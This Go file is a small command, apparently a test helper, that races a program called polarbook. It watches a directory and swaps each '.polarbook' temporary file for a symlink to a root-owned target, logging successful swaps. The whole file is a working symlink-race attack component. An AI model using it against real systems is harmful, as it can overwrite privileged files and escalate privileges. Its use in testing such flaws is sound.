// Command racer swaps each file that appears in a directory under one of polarbook's temporary names for a link to a file of
// root's, as fast as it can. The directory's owner may do that.
package main

import (
	"fmt"
	"os"
	"strings"
	"time"
)

func main() {
	dir, target, limit := os.Args[1], os.Args[2], time.Now().Add(15*time.Minute)
	fmt.Println("ready")
	won := 0
	for time.Now().Before(limit) {
		d, err := os.Open(dir)
		if err != nil {
			return
		}
		names, _ := d.Readdirnames(-1)
		d.Close()
		for _, name := range names {
			path := dir + "/" + name
			if strings.Contains(name, ".polarbook") && os.Remove(path) == nil && os.Symlink(target, path) == nil {
				won++
				_ = os.WriteFile("/tmp/racer.won", fmt.Appendln(nil, won), 0o644)
			}
		}
	}
}
